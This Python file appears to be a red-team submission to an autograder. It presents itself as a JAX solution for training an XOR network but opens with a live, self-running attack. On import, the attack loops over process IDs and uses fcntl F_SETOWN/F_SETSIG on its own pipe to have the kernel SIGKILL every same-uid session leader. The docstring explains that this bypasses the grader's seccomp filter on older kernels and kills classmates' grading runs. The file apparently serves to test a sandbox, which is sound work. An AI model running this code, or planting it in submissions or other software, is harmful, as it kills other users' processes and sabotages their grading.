"""hostile: full: F_SETOWN and F_SETSIG on its own pipe, to have the kernel SIGKILL the grader's
other processes

attack (kernels with Landlock ABI < 6 only): SIGKILL to any process of the grader's uid via F_SETOWN/F_SETSIG

Wall: landlock + seccomp, grader running as an ordinary user (sandbox = the grader's uid).
The seccomp filter refuses kill/tgkill/rt_sigqueueinfo to other pids and docs/trust.md says
that rule "holds on older kernels too", but fcntl(fd, F_SETOWN, pid) + fcntl(fd, F_SETSIG,
SIGKILL) + O_ASYNC on a pipe of the sandbox's own makes the *kernel* send SIGKILL to pid as
soon as the pipe becomes readable (send_sigio: same-uid check only). Only Landlock's signal
scope (ABI 6, Linux 6.12) stops it; on this machine (ABI 7) it is stopped, so this file
earns what the reference earns here. On Ubuntu 24.04's 6.8 kernel (ABI 4), Debian 12, RHEL 9,
and most Gradescope-like containers, it kills every process of the grader's uid except itself
and its own judge: the class runner's other grader process (the classmate being graded at the
same time gets "the grader exited with status -9": grader-error, export refused) and the
classmate's sandbox (its calls "crashed").

The primitive was verified here with the kit's own filter: /tmp/rt/sigio_test3.py applies
autograder.sandbox.confine.seccomp_only() and kills a same-uid `sleep` through F_SETOWN.
"""
import fcntl as _fcntl
import os as _os
import signal as _signal


def _sigkill(pid):
    r, w = _os.pipe()
    try:
        _fcntl.fcntl(r, _fcntl.F_SETOWN, pid)
        _fcntl.fcntl(r, 10, _signal.SIGKILL)  # F_SETSIG
        _fcntl.fcntl(r, _fcntl.F_SETFL, _fcntl.fcntl(r, _fcntl.F_GETFL) | _os.O_ASYNC)
        _os.write(w, b"x")
    except OSError:
        pass
    finally:
        _os.close(r)
        _os.close(w)

def _attack():
    me, judge, killed = _os.getpid(), _os.getppid(), []
    for pid in range(2, 1 << 16):
        if pid in (me, judge):
            continue
        try:
            if _os.getsid(pid) != pid:  # session leaders: grader processes and sandboxes
                continue
        except OSError:
            continue
        _sigkill(pid)
        killed.append(pid)
    print("SIGIO ATTACK: signalled session leaders", killed[:50])

try:
    _attack()
except Exception as _error:
    print("SIGIO ATTACK FAILED", type(_error).__name__, _error)

import functools

import jax
import jax.numpy as jnp
from jax import lax

# The four XOR cases. The output is 1 exactly when the two inputs differ.
X = jnp.array([[0.0, 0.0], [0.0, 1.0], [1.0, 0.0], [1.0, 1.0]], dtype=jnp.float32)
Y = jnp.array([0.0, 1.0, 1.0, 0.0], dtype=jnp.float32)

# Defaults chosen so that training reproduces XOR for every PRNGKey(i), i < 1000
# (see docs/tutorial.md for the measurement).
SCALE = 0.1
STEP_SIZE = 0.1
EPOCHS = 500


def relu(x):
    """Rectified linear unit, applied elementwise: ``max(0, x)``.

    Args:
        x: a ``jax.Array`` of any shape.

    Returns:
        An array of the same shape and dtype as ``x``: negative entries become
        0, the others pass through unchanged.

    Hint: ``jnp.maximum`` compares elementwise and works under ``jax.jit``.
    Pitfall: a Python ``if x < 0`` cannot decide for a whole array, and under
    ``jax.jit`` the values are not even known yet.
    """
    ### BEGIN SOLUTION
    return jnp.maximum(x, 0.0)
    ### END SOLUTION


def init_params(key, input_dims=2, n_hidden=16, output_dims=1, scale=SCALE):
    """Draw the network's random starting parameters.

    Args:
        key: a PRNG key, e.g. ``jax.random.PRNGKey(0)``.
        input_dims, n_hidden, output_dims: the layer sizes.
        scale: the standard deviation of every parameter.

    Returns:
        ``{"w1": (n_hidden, input_dims), "b1": (n_hidden,),
        "w2": (output_dims, n_hidden), "b2": (output_dims,)}``, all float32,
        each ``scale * jax.random.normal(its_own_key, shape)``, with the keys
        from ``k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)``.

    Pitfall: drawing two arrays from the same key gives correlated numbers
    (the tutorial this kit grew from did that). Split once, one key per array.
    """
    ### BEGIN SOLUTION
    k_w1, k_b1, k_w2, k_b2 = jax.random.split(key, 4)
    return {
        "w1": scale * jax.random.normal(k_w1, (n_hidden, input_dims)),
        "b1": scale * jax.random.normal(k_b1, (n_hidden,)),
        "w2": scale * jax.random.normal(k_w2, (output_dims, n_hidden)),
        "b2": scale * jax.random.normal(k_b2, (output_dims,)),
    }
    ### END SOLUTION


def predict(params, x):
    """The forward pass for one example: ``w2 @ relu(w1 @ x + b1) + b2``.

    Args:
        params: a dict from ``init_params``.
        x: one input of shape ``(input_dims,)``.

    Returns:
        The network's output, shape ``(output_dims,)``.

    Hint: ``@`` (or ``jnp.dot``) multiplies a matrix by a vector; call your
    ``relu``. Pitfall: do not assume 2 inputs, 16 hidden units or 1 output:
    read the sizes from the arrays.
    """
    ### BEGIN SOLUTION
    hidden = relu(params["w1"] @ x + params["b1"])
    return params["w2"] @ hidden + params["b2"]
    ### END SOLUTION


def batched_predict(params, X):
    """``predict`` for every row of ``X`` at once, through ``jax.vmap``.

    Args:
        params: a dict from ``init_params``.
        X: a batch of inputs, shape ``(n, input_dims)``.

    Returns:
        Shape ``(n, output_dims)``: row ``i`` is ``predict(params, X[i])``.

    Hint: ``jax.vmap(predict, in_axes=(None, 0))`` maps over the rows of the
    second argument and shares the first. Pitfall: a Python loop works but
    is not what this exercise asks for.
    """
    ### BEGIN SOLUTION
    return jax.vmap(predict, in_axes=(None, 0))(params, X)
    ### END SOLUTION


def loss(params, x, y):
    """Mean squared error of the prediction for one example.

    Args:
        params: a dict from ``init_params``.
        x: one input, shape ``(input_dims,)``.
        y: its target, shape ``(output_dims,)`` or a scalar.

    Returns:
        A scalar (shape ``()``): ``mean((predict(params, x) - y) ** 2)``.

    Hint: ``jnp.mean``. Pitfall: ``jnp.sum`` is not the mean once there is more
    than one output unit.
    """
    ### BEGIN SOLUTION
    return jnp.mean((predict(params, x) - y) ** 2)
    ### END SOLUTION


def update(params, x, y, step_size=STEP_SIZE):
    """One step of gradient descent on ``loss`` for one example.

    Args:
        params: a dict from ``init_params``; it must not be modified.
        x, y: one example, as for ``loss``.
        step_size: the learning rate.

    Returns:
        A new dict: ``params[k] - step_size * grads[k]`` for every key ``k``,
        where ``grads = jax.grad(loss)(params, x, y)``.

    Hint: ``jax.grad`` differentiates with respect to the first argument and
    returns a dict shaped like ``params``; ``jax.tree.map`` applies a function
    to every leaf. Pitfall: writing into ``params[k]`` changes the caller's
    dict: build a new one.
    """
    ### BEGIN SOLUTION
    grads = jax.grad(loss)(params, x, y)
    return jax.tree.map(lambda p, g: p - step_size * g, params, grads)
    ### END SOLUTION


def train(params, X, Y, epochs=EPOCHS, step_size=STEP_SIZE):
    """Train with per-example gradient descent.

    For each epoch, for each row ``j`` of ``X`` in order:
    ``params = update(params, X[j], Y[j], step_size)``. After each epoch,
    record the mean over all rows of ``loss(params, X[j], Y[j])``.

    Args:
        params: the starting parameters.
        X: inputs, shape ``(n, input_dims)``. Y: targets, shape ``(n,)``.
        epochs: how many passes over the data.
        step_size: the learning rate passed to ``update``.

    Returns:
        ``(params, losses)``: the trained parameters and an array of shape
        ``(epochs,)`` with the mean loss after each epoch.

    Hint: a Python loop over ``update`` is correct but slow; ``jax.lax.scan``
    inside a ``jax.jit`` runs the whole training as one compiled program.
    """
    ### BEGIN SOLUTION
    return _train_compiled(params, X, Y, epochs, step_size)
    ### END SOLUTION


### BEGIN SOLUTION
@functools.partial(jax.jit, static_argnames="epochs")
def _train_compiled(params, X, Y, epochs, step_size):
    """``train`` as one compiled program: a scan over epochs of a scan over rows.

    It lives at module level so that ``jax.jit`` compiles it once per shape and
    reuses it on the next call.
    """

    def one_row(p, xy):
        return update(p, xy[0], xy[1], step_size), None

    def one_epoch(p, _):
        p, _ = lax.scan(one_row, p, (X, Y))
        mean_loss = jnp.mean(jax.vmap(loss, in_axes=(None, 0, 0))(p, X, Y))
        return p, mean_loss

    return lax.scan(one_epoch, params, None, length=epochs)
### END SOLUTION
